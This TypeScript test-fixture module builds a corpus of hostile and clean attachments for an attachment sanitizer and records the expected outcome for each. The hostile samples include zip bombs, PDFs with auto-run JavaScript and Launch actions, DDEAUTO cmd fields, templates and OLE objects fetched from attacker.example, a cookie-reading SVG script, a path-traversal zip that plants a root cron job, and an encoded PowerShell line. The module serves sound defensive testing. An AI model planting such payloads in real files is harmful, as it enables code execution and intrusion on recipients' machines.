// Generators for hostile and ordinary attachments, built at test time (no binary fixtures in git).
import { crc32, deflateRawSync, deflateSync } from "node:zlib";
import { zipSync } from "fflate";
import type {
	AttachmentAction,
	AttachmentInput,
	TypeCategory,
} from "../../src/modules/sanitize/sanitize.contract.ts";

export const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

export interface RawZipEntry {
	name: string;
	data: Buffer;
	/** Deflate the data (default) or store it. */
	deflate?: boolean;
	/** General-purpose flags, e.g. 1 for "encrypted". */
	flags?: number;
}

/** A ZIP written byte by byte, so tests control names, flags and offsets exactly. */
export function rawZip(entries: readonly RawZipEntry[]): Buffer {
	const locals: Buffer[] = [];
	const centrals: Buffer[] = [];
	let offset = 0;
	for (const entry of entries) {
		const name = Buffer.from(entry.name, "utf8");
		const deflate = entry.deflate ?? true;
		const data = deflate ? deflateRawSync(entry.data) : entry.data;
		const crc = crc32(entry.data) >>> 0;
		const flags = (entry.flags ?? 0) | 0x800;
		const local = Buffer.alloc(30);
		local.writeUInt32LE(0x04034b50, 0);
		local.writeUInt16LE(20, 4);
		local.writeUInt16LE(flags, 6);
		local.writeUInt16LE(deflate ? 8 : 0, 8);
		local.writeUInt32LE(crc, 14);
		local.writeUInt32LE(data.length, 18);
		local.writeUInt32LE(entry.data.length, 22);
		local.writeUInt16LE(name.length, 26);
		locals.push(local, name, data);
		centrals.push(
			centralRecord(name, flags, deflate ? 8 : 0, crc, data.length, entry.data.length, offset),
		);
		offset += 30 + name.length + data.length;
	}
	return Buffer.concat([...locals, ...centrals, endRecord(centrals, offset)]);
}

function centralRecord(
	name: Buffer,
	flags: number,
	method: number,
	crc: number,
	compressed: number,
	size: number,
	offset: number,
): Buffer {
	const central = Buffer.alloc(46);
	central.writeUInt32LE(0x02014b50, 0);
	central.writeUInt16LE(20, 4);
	central.writeUInt16LE(20, 6);
	central.writeUInt16LE(flags, 8);
	central.writeUInt16LE(method, 10);
	central.writeUInt32LE(crc, 16);
	central.writeUInt32LE(compressed, 20);
	central.writeUInt32LE(size, 24);
	central.writeUInt16LE(name.length, 28);
	central.writeUInt32LE(offset, 42);
	return Buffer.concat([central, name]);
}

function endRecord(centrals: readonly Buffer[], cdOffset: number): Buffer {
	const size = centrals.reduce((sum, record) => sum + record.length, 0);
	const end = Buffer.alloc(22);
	end.writeUInt32LE(0x06054b50, 0);
	end.writeUInt16LE(centrals.length, 8);
	end.writeUInt16LE(centrals.length, 10);
	end.writeUInt32LE(size, 12);
	end.writeUInt32LE(cdOffset, 16);
	return end;
}

/** Many central-directory entries pointing at one local file: the overlapping-entries zip bomb. */
export function overlappingZip(copies = 50): Buffer {
	const data = Buffer.alloc(1024 * 1024, 0x41);
	const name = Buffer.from("a.txt");
	const compressed = deflateRawSync(data);
	const crc = crc32(data) >>> 0;
	const local = Buffer.alloc(30);
	local.writeUInt32LE(0x04034b50, 0);
	local.writeUInt16LE(20, 4);
	local.writeUInt16LE(8, 8);
	local.writeUInt32LE(crc, 14);
	local.writeUInt32LE(compressed.length, 18);
	local.writeUInt32LE(data.length, 22);
	local.writeUInt16LE(name.length, 26);
	const body = Buffer.concat([local, name, compressed]);
	const centrals = Array.from({ length: copies }, (_, index) =>
		centralRecord(Buffer.from(`copy${index}.txt`), 0, 8, crc, compressed.length, data.length, 0),
	);
	return Buffer.concat([body, ...centrals, endRecord(centrals, body.length)]);
}

/** One member of `megabytes` of zeros: a ratio of about 1000. */
export function ratioBombZip(megabytes = 30): Buffer {
	return rawZip([{ name: "zeros.txt", data: Buffer.alloc(megabytes * 1024 * 1024, 0x20) }]);
}

export function nestedEicarZip(): Buffer {
	const inner = rawZip([
		{ name: "eicar.com", data: Buffer.from(EICAR) },
		{ name: "readme.txt", data: Buffer.from("hello\n") },
	]);
	const middle = rawZip([{ name: "level2/inner.zip", data: inner }]);
	return rawZip([
		{ name: "middle.zip", data: middle },
		{ name: "note.txt", data: Buffer.from("お知らせ\n") },
	]);
}

/** A syntactically valid PDF written by hand, with a correct xref table. */
export function handPdf(objects: readonly string[], trailerExtra = ""): Buffer {
	const chunks: Buffer[] = [Buffer.from("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n", "latin1")];
	let offset = chunks[0]?.length ?? 0;
	const offsets: number[] = [];
	objects.forEach((body, index) => {
		offsets.push(offset);
		const chunk = Buffer.from(`${index + 1} 0 obj\n${body}\nendobj\n`, "latin1");
		chunks.push(chunk);
		offset += chunk.length;
	});
	const xref = [
		"xref",
		`0 ${objects.length + 1}`,
		"0000000000 65535 f \n".trimEnd(),
		...offsets.map((at) => `${String(at).padStart(10, "0")} 00000 n `),
	].join("\n");
	chunks.push(
		Buffer.from(
			`${xref}\ntrailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${offset}\n%%EOF\n`,
			"latin1",
		),
	);
	return Buffer.concat(chunks);
}

const PAGE_CONTENT = "BT /F1 24 Tf 72 720 Td (Hello) Tj ET";
const PAGE_OBJECTS = [
	"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
	"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O 6 0 R >> >>",
	`<< /Length ${PAGE_CONTENT.length} >>\nstream\n${PAGE_CONTENT}\nendstream`,
	"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
];

/** One page whose catalog runs JavaScript on open, with a Launch action, an embedded file and /AA. */
export function activePdf(): Buffer {
	return handPdf([
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R /Names << /EmbeddedFiles << /Names [(x.exe) 8 0 R] >> >> >>",
		...PAGE_OBJECTS,
		"<< /S /Launch /F (cmd.exe) >>",
		"<< /S /JavaScript /JS (app.alert('hi')) >>",
		"<< /Type /Filespec /F (x.exe) /EF << /F 9 0 R >> >>",
		"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
	]);
}

/** The same kind of trap with the names written as `#xx` escapes. */
export function obfuscatedPdf(): Buffer {
	return handPdf([
		"<< /Type /Catalog /Pages 2 0 R /Open#41ction 7 0 R >>",
		...PAGE_OBJECTS,
		"<< /S /Launch /F (calc.exe) >>",
		"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
	]);
}

/** The JavaScript action lives only inside a Flate-compressed object stream. */
export function objectStreamPdf(): Buffer {
	const inner = "8 0 << /S /JavaScript /JS (app.alert(2)) >>";
	const packed = deflateSync(Buffer.from(inner, "latin1")).toString("latin1");
	return handPdf([
		"<< /Type /Catalog /Pages 2 0 R >>",
		...PAGE_OBJECTS,
		"<< /S /GoTo /D [3 0 R /Fit] >>",
		`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`,
	]);
}

/** An encrypted-looking PDF (an /Encrypt dictionary in the trailer). */
export function encryptedPdf(): Buffer {
	return handPdf(
		[
			"<< /Type /Catalog /Pages 2 0 R >>",
			...PAGE_OBJECTS,
			"<< /S /GoTo /D [3 0 R /Fit] >>",
			"<< /Filter /Standard /V 1 /R 2 /O (0123456789abcdef0123456789abcdef) /U (0123456789abcdef0123456789abcdef) /P -4 >>",
		],
		"/Encrypt 7 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] ",
	);
}

/** A clean PDF of `pages` pages drawn with pdfkit. */
export async function cleanPdf(pages = 1): Promise<Buffer> {
	const { default: PdfDocument } = await import("pdfkit");
	const doc = new PdfDocument({ size: "A4", autoFirstPage: false });
	const chunks: Buffer[] = [];
	const done = new Promise<Buffer>((resolve) => {
		doc.on("data", (chunk: Buffer) => chunks.push(chunk));
		doc.on("end", () => resolve(Buffer.concat(chunks)));
	});
	for (let page = 1; page <= pages; page++) {
		doc.addPage();
		doc.fontSize(20).text(`Page ${page}`);
		doc.fontSize(10).text("Lorem ipsum dolor sit amet. ".repeat(80));
		doc.rect(50, 400, 300, 200).fill("#3366cc");
	}
	doc.end();
	return done;
}

const CONTENT_TYPES = (main: string, extra = "") =>
	`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="${main}"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>${extra}</Types>`;

const ROOT_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;

const W =
	'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:o="urn:schemas-microsoft-com:office:office"';

function wordDocument(body: string): string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document ${W}><w:body>${body}<w:p><w:r><w:t>本文です。</w:t></w:r></w:p></w:body></w:document>`;
}

const SETTINGS_RELS_TYPE =
	"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";

/** A macro-enabled Word document carrying a VBA project. */
export function docmWithMacro(): Buffer {
	const files: Record<string, Uint8Array> = {
		"[Content_Types].xml": Buffer.from(
			CONTENT_TYPES(
				"application/vnd.ms-word.document.macroEnabled.main+xml",
				'<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
			),
		),
		"_rels/.rels": Buffer.from(ROOT_RELS),
		"word/document.xml": Buffer.from(wordDocument("")),
		"word/settings.xml": Buffer.from(`<w:settings ${W}/>`),
		"word/_rels/document.xml.rels": Buffer.from(
			'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/></Relationships>',
		),
		"word/vbaProject.bin": Buffer.concat([
			Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
			Buffer.from("Attribute VB_Name AutoOpen Shell"),
		]),
		"word/_rels/vbaProject.bin.rels": Buffer.from(
			'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" Target="vbaData.xml"/></Relationships>',
		),
		"word/vbaData.xml": Buffer.from(
			'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
		),
	};
	return Buffer.from(zipSync(files));
}

/** A docx with an external template, an OLE object, an external hyperlink and DDEAUTO fields. */
export function docxWithExternals(): Buffer {
	const body = [
		'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>表示テキスト</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
		'<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>',
		'<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" r:id="rId5"/></w:object></w:r></w:p>',
		'<w:p><w:hyperlink r:id="rId6"><w:r><w:t>リンク</w:t></w:r></w:hyperlink></w:p>',
		'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
	].join("");
	const files: Record<string, Uint8Array> = {
		"[Content_Types].xml": Buffer.from(
			CONTENT_TYPES(
				"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
				'<Override PartName="/word/embeddings/oleObject1.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
			),
		),
		"_rels/.rels": Buffer.from(ROOT_RELS),
		"word/document.xml": Buffer.from(wordDocument(body)),
		"word/settings.xml": Buffer.from(
			`<w:settings ${W}><w:attachedTemplate r:id="rId1"/></w:settings>`,
		),
		"word/_rels/settings.xml.rels": Buffer.from(
			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${SETTINGS_RELS_TYPE}" Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>`,
		),
		"word/_rels/document.xml.rels": Buffer.from(
			'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://phish.example/" TargetMode="External"/><Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://attacker.example/x.sct" TargetMode="External"/></Relationships>',
		),
		"word/embeddings/oleObject1.bin": Buffer.concat([
			Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
			Buffer.from("Package MZ"),
		]),
	};
	return Buffer.from(zipSync(files));
}

const MACRO_MAIN = {
	xl: ["application/vnd.ms-excel.sheet.macroEnabled.main+xml", "workbook.xml", "<workbook/>"],
	ppt: [
		"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
		"presentation.xml",
		"<p:presentation/>",
	],
} as const;

/** A minimal xlsm or pptm: main part, a VBA project, an ActiveX control and a custom ribbon. */
export function macroPackage(folder: "xl" | "ppt"): Buffer {
	const [type, main, xml] = MACRO_MAIN[folder];
	const rels = (body: string) =>
		`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`;
	const files: Record<string, Uint8Array> = {
		"[Content_Types].xml": Buffer.from(
			`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/${folder}/${main}" ContentType="${type}"/><Override PartName="/${folder}/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/></Types>`,
		),
		"_rels/.rels": Buffer.from(
			rels(
				`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${folder}/${main}"/><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2007/relationships/ui/extensibility" Target="customUI/customUI14.xml"/>`,
			),
		),
		"customUI/customUI14.xml": Buffer.from('<customUI onLoad="AutoRun"/>'),
		[`${folder}/${main}`]: Buffer.from(xml),
		[`${folder}/_rels/${main}.rels`]: Buffer.from(
			rels(
				'<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
			),
		),
		[`${folder}/vbaProject.bin`]: Buffer.from("VBA Auto_Open Shell"),
		[`${folder}/activeX/activeX1.xml`]: Buffer.from(
			'<ax:ocx ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>',
		),
	};
	return Buffer.from(zipSync(files));
}

export const SVG_WITH_SCRIPT = Buffer.from(
	'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>\n',
);
export const HTML_PAGE = Buffer.from(
	"<!DOCTYPE html>\n<html><body><form action='http://phish.example'><input name=pw></form></body></html>\n",
);
export const ELF_HEADER = Buffer.concat([
	Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
	Buffer.alloc(56),
]);
export const PE_HEADER = Buffer.concat([
	Buffer.from("MZ\x90\x00", "latin1"),
	Buffer.alloc(60),
	Buffer.from("PE\0\0", "latin1"),
]);

/** A JPEG carrying EXIF with a GPS position and a camera model. */
export async function jpegWithGps(): Promise<Buffer> {
	const { default: sharp } = await import("sharp");
	return sharp({ create: { width: 64, height: 48, channels: 3, background: "#c04040" } })
		.jpeg()
		.withExif({
			IFD0: { Make: "MamoriCam", Model: "GPS-Leak 1" },
			IFD3: {
				GPSLatitudeRef: "N",
				GPSLatitude: "35/1 41/1 0/1",
				GPSLongitudeRef: "E",
				GPSLongitude: "139/1 45/1 0/1",
			},
		})
		.toBuffer();
}

export async function pngImage(): Promise<Buffer> {
	const { default: sharp } = await import("sharp");
	return sharp({ create: { width: 32, height: 32, channels: 4, background: "#20a060" } })
		.png()
		.toBuffer();
}

/** A 24-bit bottom-up Windows bitmap: top row red, green; bottom row blue, white. */
export function bmpImage(): Buffer {
	const width = 2;
	const height = 2;
	const stride = 8; // 2 × 3 bytes, padded to 4
	const header = Buffer.alloc(54);
	header.write("BM", 0, "latin1");
	header.writeUInt32LE(54 + stride * height, 2);
	header.writeUInt32LE(54, 10);
	header.writeUInt32LE(40, 14);
	header.writeInt32LE(width, 18);
	header.writeInt32LE(height, 22);
	header.writeUInt16LE(1, 26);
	header.writeUInt16LE(24, 28);
	// Rows bottom first, pixels in B, G, R order.
	const bottom = Buffer.from([255, 0, 0, 255, 255, 255, 0, 0]);
	const top = Buffer.from([0, 0, 255, 0, 255, 0, 0, 0]);
	return Buffer.concat([header, bottom, top, Buffer.from("<script>trailing</script>")]);
}

export interface CorpusItem {
	input: AttachmentInput;
	expected: { action: AttachmentAction; category: TypeCategory };
}

function item(
	filename: string,
	content: Buffer,
	action: AttachmentAction,
	category: TypeCategory,
): CorpusItem {
	return {
		input: { filename, declaredType: "application/octet-stream", content },
		expected: { action, category },
	};
}

/** The whole corpus under the default policy, with what must happen to each file. */
export async function buildCorpus(): Promise<CorpusItem[]> {
	return [
		item("invoice.zip", nestedEicarZip(), "sanitized", "archive"),
		item("active.pdf", activePdf(), "sanitized", "pdf"),
		item("obfuscated.pdf", obfuscatedPdf(), "sanitized", "pdf"),
		item("objstm.pdf", objectStreamPdf(), "sanitized", "pdf"),
		item("locked.pdf", encryptedPdf(), "held", "pdf"),
		item("clean.pdf", await cleanPdf(2), "sanitized", "pdf"),
		item("macro.docm", docmWithMacro(), "sanitized", "ooxml"),
		item("template.docx", docxWithExternals(), "sanitized", "ooxml"),
		item("budget.xlsm", macroPackage("xl"), "sanitized", "ooxml"),
		item("slides.pptm", macroPackage("ppt"), "sanitized", "ooxml"),
		item(
			"old.doc",
			Buffer.concat([
				Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
				Buffer.alloc(504),
			]),
			"removed",
			"ole",
		),
		item("logo.svg", SVG_WITH_SCRIPT, "removed", "svg"),
		item("report.pdf", HTML_PAGE, "removed", "html"),
		item("photo.jpg", ELF_HEADER, "removed", "executable"),
		item("scan.jpg", PE_HEADER, "removed", "executable"),
		item("bomb.zip", ratioBombZip(), "held", "archive"),
		item("overlap.zip", overlappingZip(), "held", "archive"),
		item(
			"traversal.zip",
			rawZip([{ name: "../../etc/cron.d/evil", data: Buffer.from("* * * * * root sh\n") }]),
			"held",
			"archive",
		),
		item(
			"secret.zip",
			rawZip([{ name: "a.txt", data: Buffer.from("x"), flags: 1, deflate: false }]),
			"held",
			"archive",
		),
		item("gps.jpg", await jpegWithGps(), "sanitized", "image"),
		item("chart.png", await pngImage(), "sanitized", "image"),
		item("drawing.bmp", bmpImage(), "sanitized", "image"),
		item("memo.txt", Buffer.from("会議は午後3時からです。\r\n", "utf8"), "passed", "text"),
		item(
			"run.js",
			Buffer.from('var sh = new ActiveXObject("WScript.Shell");\nsh.Run("calc");\n'),
			"removed",
			"script",
		),
		item(
			"setup.bat",
			Buffer.from("@echo off\r\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\r\n"),
			"removed",
			"script",
		),
	];
}
